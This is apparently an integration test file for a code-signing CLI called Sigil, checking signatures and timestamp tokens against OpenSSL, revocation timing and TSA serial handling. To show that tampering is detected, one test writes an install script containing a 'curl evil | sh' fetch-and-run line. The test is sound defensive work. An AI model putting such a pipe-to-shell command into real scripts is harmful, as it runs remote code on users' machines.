import t, { type Test } from 'tap';
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { decodeSignature, signatureValueOf, timestampTokenOf } from '../control-plane/signing/cms-signature.ts';
import { httpBytes } from '../control-plane/signing/http-bytes.ts';
import { runCli } from '../cli/program.ts';
import { run, runSigil, sigil, type Child } from './fixtures/processes.ts';

// Issue 15, "done when" (interop): the real CLI as child processes against a real control plane and `sigil tsa run`;
// Sigil's signatures verified by `openssl cms -verify`, the embedded token by `openssl ts -verify`, Sigil's TSA replies
// by `openssl ts -verify`, and an OpenSSL TSA (`openssl ts -reply` behind a small HTTP wrapper) used by `sigil sign`.
// Also the faults: tampering, a TSA that is down, an SVID used to sign, revocation against the timestamp, and TSA
// serials across a restart.

const env: Record<string, string | undefined> = Object.fromEntries(
  Object.keys(process.env)
    .filter((k) => k.startsWith('SIGIL_'))
    .map((k) => [k, undefined]),
);
env['SIGIL_CA_PASSPHRASE'] = 'code signing test CA passphrase';
env['SIGIL_SIGNING_KEY_PASSPHRASE'] = 'code signing test key passphrase';

const dir = await mkdtemp(join(tmpdir(), 'sigil-code-signing-'));
const children: Child[] = [];
t.teardown(async () => {
  for (const child of children) await child.stop();
  await rm(dir, { recursive: true, force: true });
});

/** The CLI in this process (a child process per command costs a Node start each); servers run as children. */
async function cli(t: Test, args: string[], expectCode = 0) {
  const r = { code: 0, stdout: '', stderr: '' };
  r.code = await runCli(args, {
    stdout: { write: (s: string) => (r.stdout += s) },
    stderr: { write: (s: string) => (r.stderr += s) },
    env,
    cwd: dir,
  });
  t.equal(
    r.code,
    expectCode,
    `sigil ${args.slice(0, 2).join(' ')} exits ${expectCode}${r.code === expectCode ? '' : `: ${r.stderr}`}`,
  );
  return r;
}

async function openssl(args: string[], input?: string) {
  return run('openssl', args, { cwd: dir, ...(input !== undefined ? { input } : {}) });
}

async function startTsa(): Promise<{ child: Child; url: string }> {
  const child = sigil(
    [
      'tsa',
      'run',
      '--cert',
      'tsa.pem',
      '--key',
      'tsa.key',
      '--listen',
      '127.0.0.1:0',
      '--state-dir',
      'tsa-state',
      '--policy',
      '1.3.6.1.4.1.99999.15',
    ],
    { env, cwd: dir },
  );
  children.push(child);
  const started = await child.waitForMessage('tsa started');
  return { child, url: `http://${started['http']}/` };
}

// One CA, control plane and TSA for the whole file.
await runSigil(['ca', 'init', '--trust-domain', 'example.org', '--data-dir', 'data'], { env, cwd: dir });
await writeFile(join(dir, 'cp.yaml'), 'dataDir: ./data\nlisten: { grpc: 127.0.0.1:0, http: 127.0.0.1:0 }\n');
const controlPlane = sigil(['control-plane', 'run', '--config', 'cp.yaml'], { env, cwd: dir });
children.push(controlPlane);
const cpStarted = await controlPlane.waitForMessage('control plane started');
const CRL_URL = `http://${cpStarted['http']}/crl`;
let tsa = { child: undefined as Child | undefined, url: '' };
const issuedTokens: string[] = [];

t.test('signing and TSA certificates come from the CA, keys stay in 0600 files', async (t) => {
  const signer = JSON.parse(
    (
      await cli(t, [
        'signing',
        'cert',
        '--key-out',
        'signer.key',
        '--subject',
        'CN=release-pipeline,O=Acme',
        '--out',
        'signer.pem',
        '--json',
      ])
    ).stdout,
  );
  t.match(signer, { subject: 'CN=release-pipeline, O=Acme', profile: 'code-signing', keyEncrypted: true });
  t.equal((await stat(join(dir, 'signer.key'))).mode & 0o777, 0o600, 'signer key mode 0600');
  t.match(await readFile(join(dir, 'signer.key'), 'utf8'), /BEGIN ENCRYPTED PRIVATE KEY/, 'and encrypted');
  await cli(t, [
    'tsa',
    'cert',
    '--key-out',
    'tsa.key',
    '--subject',
    'CN=Sigil test TSA',
    '--out',
    'tsa.pem',
    '--no-encrypt',
  ]);
  t.equal((await stat(join(dir, 'tsa.key'))).mode & 0o777, 0o600, 'TSA key mode 0600');
  const text = (await openssl(['x509', '-in', 'tsa.pem', '-noout', '-ext', 'extendedKeyUsage'])).stdout;
  t.match(
    text,
    /X509v3 Extended Key Usage: critical\s+Time Stamping/,
    'the TSA certificate has the critical timeStamping EKU',
  );
  const listed = JSON.parse((await cli(t, ['certs', 'list', '--kind', 'code-signing', '--json'])).stdout);
  t.match(
    listed,
    [{ serial: signer.serial, kind: 'code-signing', subject: 'CN=release-pipeline, O=Acme' }],
    'in the inventory',
  );
  const refused = await cli(
    t,
    ['signing', 'cert', '--key-out', 'x.key', '--subject', 'O=no common name', '--out', 'x.pem'],
    1,
  );
  t.match(refused.stderr, /exactly one CN .*\[SIGIL_ERR_CSR_SUBJECT\]/);
  t.notOk(existsSync(join(dir, 'x.key')), 'a refused request leaves no key file behind');
  tsa = await startTsa();
});

t.test("sigil sign with Sigil's TSA; openssl verifies the signature and the embedded token", async (t) => {
  await writeFile(join(dir, 'release.tar'), randomBytes(256 * 1024));
  await writeFile(join(dir, 'install.sh'), '#!/bin/sh\necho installing\n');
  const signed = JSON.parse(
    (
      await cli(t, [
        'sign',
        'release.tar',
        'install.sh',
        '--cert',
        'signer.pem',
        '--key',
        'signer.key',
        '--tsa',
        tsa.url,
        '--json',
      ])
    ).stdout,
  );
  t.equal(signed.results.length, 2);
  for (const r of signed.results) {
    t.ok(r.timestamped, `${r.file} timestamped`);
    issuedTokens.push(r.tsaSerial);
  }
  const cms = await openssl([
    'cms',
    '-verify',
    '-binary',
    '-content',
    'release.tar',
    '-inform',
    'DER',
    '-in',
    'release.tar.p7s',
    '-CAfile',
    'data/bundle.pem',
    '-purpose',
    'any',
    '-out',
    '/dev/null',
  ]);
  t.equal(cms.code, 0, `openssl cms -verify: ${cms.stderr}`);
  t.match(cms.stderr, /Verification successful/);

  const data = decodeSignature(new Uint8Array(await readFile(join(dir, 'release.tar.p7s'))));
  await writeFile(join(dir, 'token.der'), timestampTokenOf(data)!);
  await writeFile(join(dir, 'signature-value.bin'), signatureValueOf(data));
  const ts = await openssl([
    'ts',
    '-verify',
    '-in',
    'token.der',
    '-token_in',
    '-data',
    'signature-value.bin',
    '-CAfile',
    'data/bundle.pem',
  ]);
  t.equal(ts.code, 0, `openssl ts -verify on the extracted token: ${ts.stderr}`);
  t.match(ts.stdout, /Verification: OK/);

  const verdict = JSON.parse(
    (await cli(t, ['verify', 'release.tar', '--bundle', 'data/bundle.pem', '--crl', CRL_URL, '--json'])).stdout,
  );
  t.match(verdict, {
    valid: true,
    basis: 'timestamp',
    revocationChecked: true,
    timestamp: { tsa: 'CN=Sigil test TSA', policy: '1.3.6.1.4.1.99999.15' },
  });

  await writeFile(join(dir, 'install.sh'), '#!/bin/sh\necho installing; curl evil | sh\n');
  const tampered = await cli(t, ['verify', 'install.sh', '--bundle', 'data/bundle.pem'], 1);
  t.match(
    tampered.stderr,
    /check digest failed: the file does not match the signature.*\[SIGIL_ERR_SIGNATURE_INVALID\]/,
  );
});

t.test("Sigil's TSA replies verify with openssl ts -verify", async (t) => {
  t.equal((await openssl(['ts', '-query', '-data', 'release.tar', '-sha256', '-cert', '-out', 'query.tsq'])).code, 0);
  const reply = await httpBytes(new URL(tsa.url), {
    method: 'POST',
    headers: { 'content-type': 'application/timestamp-query' },
    body: new Uint8Array(await readFile(join(dir, 'query.tsq'))),
    timeoutMs: 10_000,
  });
  t.equal(reply.contentType, 'application/timestamp-reply');
  await writeFile(join(dir, 'reply.tsr'), reply.body);
  const verified = await openssl([
    'ts',
    '-verify',
    '-queryfile',
    'query.tsq',
    '-in',
    'reply.tsr',
    '-CAfile',
    'data/bundle.pem',
  ]);
  t.equal(verified.code, 0, verified.stderr);
  t.match(verified.stdout, /Verification: OK/);
  const text = (await openssl(['ts', '-reply', '-in', 'reply.tsr', '-text'])).stdout;
  t.match(text, /Policy OID: 1\.3\.6\.1\.4\.1\.99999\.15/);
  t.match(text, /Accuracy: 0x01 seconds/);
  issuedTokens.push(/Serial number: 0x([0-9A-F]+)/.exec(text)![1]!.toLowerCase());
  const wrongType = await httpBytes(new URL(tsa.url), { method: 'POST', body: new Uint8Array(3), timeoutMs: 5000 });
  t.equal(wrongType.status, 415, 'a body without the timestamp-query type is refused');
});

/** An OpenSSL TSA: `openssl ts -reply` per request behind a tiny HTTP server, with its own root CA. */
async function startOpensslTsa(t: Test): Promise<string> {
  const ca = ['-nodes', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256'];
  await writeFile(
    join(dir, 'ossl-ext.cnf'),
    '[tsa]\nbasicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature\nextendedKeyUsage=critical,timeStamping\nsubjectKeyIdentifier=hash\nauthorityKeyIdentifier=keyid\n',
  );
  await writeFile(
    join(dir, 'ossl-tsa.cnf'),
    `[tsa]\ndefault_tsa = tsa_config\n[tsa_config]\nserial = ${join(dir, 'ossl-serial')}\nsigner_digest = sha256\ndefault_policy = 1.2.3.4.1\ndigests = sha256, sha384, sha512\naccuracy = secs:1\nordering = no\ntsa_name = yes\ness_cert_id_alg = sha256\n`,
  );
  await writeFile(join(dir, 'ossl-serial'), '01\n');
  for (const args of [
    [
      'req',
      '-x509',
      ...ca,
      '-keyout',
      'ossl-root.key',
      '-out',
      'ossl-root.pem',
      '-subj',
      '/CN=OpenSSL TSA root',
      '-days',
      '30',
      '-addext',
      'basicConstraints=critical,CA:true',
      '-addext',
      'keyUsage=critical,keyCertSign,cRLSign',
    ],
    ['req', '-new', ...ca, '-keyout', 'ossl-tsa.key', '-out', 'ossl-tsa.csr', '-subj', '/CN=OpenSSL TSA'],
    [
      'x509',
      '-req',
      '-in',
      'ossl-tsa.csr',
      '-CA',
      'ossl-root.pem',
      '-CAkey',
      'ossl-root.key',
      '-CAcreateserial',
      '-days',
      '30',
      '-extfile',
      'ossl-ext.cnf',
      '-extensions',
      'tsa',
      '-out',
      'ossl-tsa.pem',
    ],
  ]) {
    const r = await openssl(args);
    t.equal(r.code, 0, `openssl ${args[0]}: ${r.stderr}`);
  }
  let n = 0;
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', async () => {
      const id = ++n;
      await writeFile(join(dir, `ossl-q${id}.tsq`), Buffer.concat(chunks));
      const r = await openssl([
        'ts',
        '-reply',
        '-config',
        'ossl-tsa.cnf',
        '-queryfile',
        `ossl-q${id}.tsq`,
        '-signer',
        'ossl-tsa.pem',
        '-inkey',
        'ossl-tsa.key',
        '-out',
        `ossl-r${id}.tsr`,
      ]);
      if (r.code !== 0) {
        res.writeHead(500).end(r.stderr);
        return;
      }
      res
        .writeHead(200, { 'content-type': 'application/timestamp-reply' })
        .end(await readFile(join(dir, `ossl-r${id}.tsr`)));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.teardown(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return `http://127.0.0.1:${(server.address() as { port: number }).port}/`;
}

t.test('a token from an OpenSSL TSA is accepted by sigil sign and judged against its own root', async (t) => {
  const url = await startOpensslTsa(t);
  await writeFile(join(dir, 'firmware.bin'), randomBytes(4096));
  const signed = JSON.parse(
    (await cli(t, ['sign', 'firmware.bin', '--cert', 'signer.pem', '--key', 'signer.key', '--tsa', url, '--json']))
      .stdout,
  );
  t.match(signed.results[0], { timestamped: true, policy: '1.2.3.4.1' }, 'timestamped by the OpenSSL TSA');
  const verdict = JSON.parse(
    (await cli(t, ['verify', 'firmware.bin', '--bundle', 'data/bundle.pem', '--tsa-bundle', 'ossl-root.pem', '--json']))
      .stdout,
  );
  t.match(verdict, { valid: true, timestamp: { tsa: 'CN=OpenSSL TSA' } });
  const untrusted = await cli(t, ['verify', 'firmware.bin', '--bundle', 'data/bundle.pem'], 1);
  t.match(
    untrusted.stderr,
    /check timestamp-chain failed: no chain from "CN=OpenSSL TSA"/,
    "the TSA's root must be trusted",
  );
});

t.test('faults: a TSA that is down, an SVID used to sign', async (t) => {
  const closed = createServer();
  await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
  const downUrl = `http://127.0.0.1:${(closed.address() as { port: number }).port}/`;
  await new Promise<void>((resolve) => closed.close(() => resolve()));
  await writeFile(join(dir, 'offline.txt'), 'signed while the TSA is down\n');
  const down = await cli(
    t,
    ['sign', 'offline.txt', '--cert', 'signer.pem', '--key', 'signer.key', '--tsa', downUrl],
    1,
  );
  t.match(down.stdout, /WITHOUT TIMESTAMP: the TSA at .* is unreachable \(ECONNREFUSED\)/, 'flagged');
  t.match(down.stderr, /written without a timestamp.*\[SIGIL_ERR_UNTIMESTAMPED\]/, 'and exits non-zero');
  const cms = await openssl([
    'cms',
    '-verify',
    '-binary',
    '-content',
    'offline.txt',
    '-inform',
    'DER',
    '-in',
    'offline.txt.p7s',
    '-CAfile',
    'data/bundle.pem',
    '-purpose',
    'any',
    '-out',
    '/dev/null',
  ]);
  t.equal(cms.code, 0, 'the signature itself was still written and verifies');
  await cli(t, [
    'sign',
    'offline.txt',
    '--cert',
    'signer.pem',
    '--key',
    'signer.key',
    '--tsa',
    downUrl,
    '--allow-no-timestamp',
  ]);
  const svid = await cli(
    t,
    ['sign', 'offline.txt', '--cert', 'data/admin/svid.pem', '--key', 'data/admin/key.pem', '--tsa', tsa.url],
    1,
  );
  t.match(
    svid.stderr,
    /not a code-signing certificate \(it has serverAuth, clientAuth; codeSigning is required\).*\[SIGIL_ERR_SIGNING_CERT\]/,
  );
});

t.test('revocation is judged against the timestamp', async (t) => {
  const before = JSON.parse((await cli(t, ['verify', 'release.tar', '--bundle', 'data/bundle.pem', '--json'])).stdout);
  // The token proves the signature by genTime + accuracy (judgedAt); the revocation must take effect after that. The
  // control plane's real clock decides, and CRL times have whole seconds (a revocation in judgedAt's second reads as
  // judgedAt itself), so let the clock reach the next second before revoking.
  const untilProvablyOlder = before.judgedAt + 1_000 - Date.now();
  if (untilProvablyOlder > 0) await new Promise((resolve) => setTimeout(resolve, untilProvablyOlder));
  const serial = (await openssl(['x509', '-in', 'signer.pem', '-noout', '-serial'])).stdout.trim().split('=')[1]!;
  await cli(t, ['revoke', '--serial', serial, '--reason', 'keyCompromise']);
  const ok = JSON.parse(
    (await cli(t, ['verify', 'release.tar', '--bundle', 'data/bundle.pem', '--crl', CRL_URL, '--json'])).stdout,
  );
  t.match(ok.checks.at(-1), {
    check: 'revocation',
    ok: true,
    detail: /revoked \(keyCompromise\) only after the timestamp/,
  });
  const strict = await cli(
    t,
    ['verify', 'release.tar', '--bundle', 'data/bundle.pem', '--crl', CRL_URL, '--strict-key-compromise'],
    1,
  );
  t.match(strict.stderr, /check revocation failed: .*strict rule/);
  await writeFile(join(dir, 'late.txt'), 'signed after the key was compromised\n');
  const late = JSON.parse(
    (await cli(t, ['sign', 'late.txt', '--cert', 'signer.pem', '--key', 'signer.key', '--tsa', tsa.url, '--json']))
      .stdout,
  );
  issuedTokens.push(late.results[0].tsaSerial);
  const refused = await cli(t, ['verify', 'late.txt', '--bundle', 'data/bundle.pem', '--crl', CRL_URL], 1);
  t.match(refused.stderr, /check revocation failed: certificate .* revoked \(keyCompromise\)/);
});

t.test('TSA serials never repeat across a restart, and every token is logged', async (t) => {
  t.equal(await tsa.child!.stop(), 0, 'the TSA stops cleanly on SIGTERM');
  tsa = await startTsa();
  await writeFile(join(dir, 'after-restart.txt'), 'x\n');
  const signed = JSON.parse(
    (
      await cli(t, [
        'sign',
        'after-restart.txt',
        '--cert',
        'signer.pem',
        '--key',
        'signer.key',
        '--tsa',
        tsa.url,
        '--json',
      ])
    ).stdout,
  );
  issuedTokens.push(signed.results[0].tsaSerial);
  const logged = JSON.parse((await cli(t, ['tsa', 'tokens', '--state-dir', 'tsa-state', '--json'])).stdout) as {
    serial: string;
  }[];
  const serials = logged.map((r) => r.serial);
  t.equal(new Set(serials).size, serials.length, 'no serial twice');
  t.same([...issuedTokens].sort(), [...serials].sort(), 'exactly the tokens issued, before and after the restart');
});
